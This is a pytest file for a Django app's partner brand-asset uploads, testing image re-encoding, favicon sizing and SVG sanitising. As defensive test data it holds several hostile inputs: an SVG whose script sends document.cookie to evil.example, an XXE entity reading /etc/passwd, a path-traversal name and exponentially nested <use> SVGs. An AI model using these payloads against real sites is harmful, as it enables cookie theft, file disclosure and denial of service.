"""Brand assets from the console: raster re-encoded and resized, SVG cleaned, favicon sizes;
stored under the partner's prefix and served from its own host at /brand/<name>."""

import html
import io
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from PIL import Image

from accounts.models import User
from tenants.brand import BrandAssetError, brand_asset_store
from tenants.models import ConfigVersion, Partner
from tenants.services import partner_provision
from tests.staff_login import client_staff_login

pytestmark = pytest.mark.django_db

HOST = "marke.localhost"


@pytest.fixture
def staff(client: Client) -> Client:
    User.objects.create_superuser("onboarding", "onboarding@example.com", "S3cure-Passw0rd!")
    client_staff_login(client, host="localhost", username="onboarding", password="S3cure-Passw0rd!")
    return client


@pytest.fixture
def partner() -> Partner:
    return partner_provision(subdomain="marke", name="Marke GmbH", kind="wallbox")


def jpeg_with_exif(size: tuple[int, int]) -> bytes:
    image = Image.new("RGB", size, "#1d4ed8")
    exif = Image.Exif()
    exif[0x010F] = "Kamera GmbH"  # Make
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif.tobytes())
    return out.getvalue()


HOSTILE_SVG = b"""<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="40" onload="alert(1)">
  <script>fetch('https://evil.example/'+document.cookie)</script>
  <style>rect{fill:url(https://evil.example/x)}</style>
  <foreignObject><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>
  <rect width="40" height="40" fill="#1d4ed8" onclick="x()"/>
  <a xlink:href="javascript:alert(1)"><text x="50" y="25">Klick</text></a>
  <text x="50" y="25" xlink:href="javascript:alert(2)">Marke</text>
  <image href="https://evil.example/track.png"/>
  <use href="#r"/>
</svg>"""


def test_a_logo_is_re_encoded_resized_stored_and_served(staff: Client, partner: Partner) -> None:
    upload = SimpleUploadedFile("logo.jpg", jpeg_with_exif((3000, 1000)), content_type="image/jpeg")

    response = staff.post(
        f"/admin/tenants/partner/{partner.pk}/brand/", {"logo": upload}, HTTP_HOST="localhost"
    )

    assert response.status_code == 302
    draft = ConfigVersion.objects.get(partner=partner, published_at__isnull=True)
    url = draft.config["logo"]
    assert url.startswith("/brand/logo-") and url.endswith(".png")
    # measured for the theme: 3:1, its text unknown (a raster logo)
    assert (draft.config["logo_aspect"], draft.config["logo_text_share"]) == (3.0, None)
    partner.refresh_from_db()
    assert partner.config["logo"] is None  # the live site changes only when published
    served = Client().get(url, HTTP_HOST=HOST)
    assert served.status_code == 200 and served["Content-Type"] == "image/png"
    assert "immutable" in served["Cache-Control"]
    image = Image.open(io.BytesIO(served.content))
    assert image.format == "PNG" and image.size == (600, 200)
    assert not image.getexif() and "exif" not in image.info
    # another partner's host does not serve it
    assert Client().get(url, HTTP_HOST="autohaus.localhost").status_code == 404


def test_an_svg_is_cleaned(partner: Partner) -> None:
    asset = brand_asset_store(partner=partner, kind="logo", data=HOSTILE_SVG)

    served = Client().get(asset.url, HTTP_HOST=HOST)
    svg = served.content.decode()

    assert served["Content-Type"] == "image/svg+xml"
    assert "sandbox" in served["Content-Security-Policy"]
    for bad in (
        "script",
        "onload",
        "onclick",
        "evil.example",
        "foreignObject",
        "javascript",
        "<style",
        "<image",
    ):
        assert bad not in svg
    assert "<rect" in svg and "Marke" in svg and 'href="#r"' in svg and "Klick" not in svg


def test_a_favicon_gets_its_sizes(partner: Partner) -> None:
    png = io.BytesIO()
    Image.new("RGBA", (700, 500), "#047857").save(png, "PNG")

    asset = brand_asset_store(partner=partner, kind="favicon", data=png.getvalue())

    for size in (32, 180, 192, 512):
        served = Client().get(asset.extra[str(size)], HTTP_HOST=HOST)
        assert Image.open(io.BytesIO(served.content)).size == (size, size)
    ico = Client().get(asset.extra["ico"], HTTP_HOST=HOST)
    assert ico["Content-Type"] == "image/x-icon"
    assert set(Image.open(io.BytesIO(ico.content)).info["sizes"]) == {(16, 16), (32, 32), (48, 48)}


def test_a_header_image_becomes_webp(partner: Partner) -> None:
    asset = brand_asset_store(partner=partner, kind="header_image", data=jpeg_with_exif((4000, 1000)))

    image = Image.open(io.BytesIO(Client().get(asset.url, HTTP_HOST=HOST).content))
    assert image.format == "WEBP" and image.size == (2400, 600)


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"MZ\x90\x00 not an image", "Erlaubt sind PNG, JPEG, WebP und SVG."),
        (b"GIF89a" + b"\x00" * 20, "Erlaubt sind PNG, JPEG, WebP und SVG."),
        (b"<svg><script>", "Die SVG-Datei ist kein gültiges SVG."),
        (
            b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
            "Die SVG-Datei ist kein gültiges SVG.",
        ),
        (b"\x89PNG" + b"\x00" * (2 * 1024 * 1024), "Die Datei ist zu groß (höchstens 2 MB)."),
    ],
)
def test_bad_uploads_are_refused(partner: Partner, data: bytes, message: str) -> None:
    with pytest.raises(BrandAssetError, match=message.replace("(", r"\(").replace(")", r"\)")):
        brand_asset_store(partner=partner, kind="logo", data=data)


def test_a_refused_upload_says_why_in_the_console(staff: Client, partner: Partner) -> None:
    upload = SimpleUploadedFile("logo.png", b"not an image", content_type="image/png")

    response = staff.post(
        f"/admin/tenants/partner/{partner.pk}/brand/", {"logo": upload}, HTTP_HOST="localhost", follow=True
    )

    assert "Logo: Erlaubt sind PNG, JPEG, WebP und SVG." in response.content.decode()
    assert not ConfigVersion.objects.filter(partner=partner, published_at__isnull=True).exists()


def test_unknown_names_are_404(partner: Partner) -> Any:
    for name in ("../p_autohaus/brand/x.png", "logo.png", "logo-0123456789ab.exe"):
        assert Client().get(f"/brand/{name}", HTTP_HOST=HOST).status_code == 404


def test_mails_link_the_uploaded_logo_as_a_hosted_png(partner: Partner) -> None:
    from django.core import mail

    from accounts.mails import mail_send
    from tenants.services import partner_update

    asset = brand_asset_store(partner=partner, kind="logo", data=jpeg_with_exif((900, 300)))
    partner_update(partner=partner, config={**partner.config, "logo": asset.url})
    mail.outbox.clear()

    mail_send(
        schema_name=partner.schema_name,
        to="anna@example.org",
        template="login_code",
        subject="Ihr Code",
        context={"code": "123456"},
    )

    html = str(mail.outbox[0].alternatives[0][0])  # type: ignore[union-attr]
    assert f'src="http://marke.localhost{asset.url}"' in html
    assert asset.url.endswith(".png")


LOGO_SVG = b"""<svg xmlns="http://www.w3.org/2000/svg" width="120" height="40" viewBox="0 0 120 40">
  <rect width="60" height="40" fill="#ff0000"/><circle cx="90" cy="20" r="20" fill="#0000ff"/>
</svg>"""


def test_an_svg_logo_gets_a_png_copy_that_mails_show(partner: Partner) -> None:
    from django.core import mail

    from accounts.mails import mail_send
    from tenants.services import partner_update

    asset = brand_asset_store(partner=partner, kind="logo", data=LOGO_SVG)
    partner_update(partner=partner, config={**partner.config, "logo": asset.url})
    mail.outbox.clear()

    png = Client().get(asset.extra["png"], HTTP_HOST=HOST)
    mail_send(
        schema_name=partner.schema_name,
        to="anna@example.org",
        template="login_code",
        subject="Ihr Code",
        context={"code": "123456"},
    )

    # the same name as the SVG, rendered into the logo's box (600 x 240), aspect kept
    assert asset.url.endswith(".svg") and asset.extra["png"] == asset.url[:-4] + ".png"
    assert png.status_code == 200 and png["Content-Type"] == "image/png"
    image = Image.open(io.BytesIO(png.content))
    assert image.size == (600, 200)
    assert image.convert("RGBA").getpixel((100, 100)) == (255, 0, 0, 255)
    assert image.convert("RGBA").getpixel((450, 100)) == (0, 0, 255, 255)  # the blue circle
    html = str(mail.outbox[0].alternatives[0][0])  # type: ignore[union-attr]
    assert f'src="http://marke.localhost{asset.extra["png"]}"' in html
    assert ".svg" not in html
    # the website keeps the SVG
    assert Client().get("/api/configs/marke/", HTTP_HOST=HOST).json()["theme"]["assets"]["logo"] == asset.url
    # measured for the theme: 3:1, no text in it
    assert (asset.measure.aspect, asset.measure.text_share) == (3.0, 0.0)


def test_an_svg_favicon_or_header_gets_no_png_copy(partner: Partner) -> None:
    assert brand_asset_store(partner=partner, kind="header_image", data=LOGO_SVG).extra == {}


def _nested_uses(levels: int, fan_out: int) -> bytes:
    """Each group copies the one before `fan_out` times: fan_out ** levels rectangles."""
    groups = ['<g id="g0"><rect width="1" height="1"/></g>']
    for level in range(1, levels + 1):
        uses = "".join(f'<use href="#g{level - 1}"/>' for _ in range(fan_out))
        groups.append(f'<g id="g{level}">{uses}</g>')
    body = "".join(groups)
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><defs>{body}</defs>'
        f'<use href="#g{levels}"/></svg>'
    ).encode()


USE_REFUSED = "Die SVG-Datei verweist zu oft auf eigene Teile (<use>) und wird nicht angenommen."


@pytest.mark.parametrize(
    "data",
    [
        _nested_uses(8, 10),  # 10**8 rectangles from 81 <use>: the browser hangs
        _nested_uses(5, 1),  # copies of copies five deep
        b'<svg xmlns="http://www.w3.org/2000/svg"><g id="x"><use href="#x"/></g></svg>',  # itself
        b'<svg xmlns="http://www.w3.org/2000/svg"><rect id="r" width="1" height="1"/>'
        + b'<use href="#r"/>' * 101
        + b"</svg>",
    ],
    ids=["nested", "deep", "cycle", "many"],
)
def test_an_svg_logo_with_too_many_or_too_deep_uses_is_refused(
    staff: Client, partner: Partner, data: bytes
) -> None:
    upload = SimpleUploadedFile("logo.svg", data, content_type="image/svg+xml")

    response = staff.post(
        f"/admin/tenants/partner/{partner.pk}/brand/", {"logo": upload}, HTTP_HOST="localhost", follow=True
    )

    assert f"Logo: {USE_REFUSED}" in html.unescape(response.content.decode())
    assert not ConfigVersion.objects.filter(partner=partner, published_at__isnull=True).exists()


def test_an_svg_logo_with_a_few_uses_is_kept(partner: Partner) -> None:
    asset = brand_asset_store(
        partner=partner, kind="logo", data=_nested_uses(2, 4)
    )  # 16 rectangles, copies 3 deep
    assert asset.url.endswith(".svg")
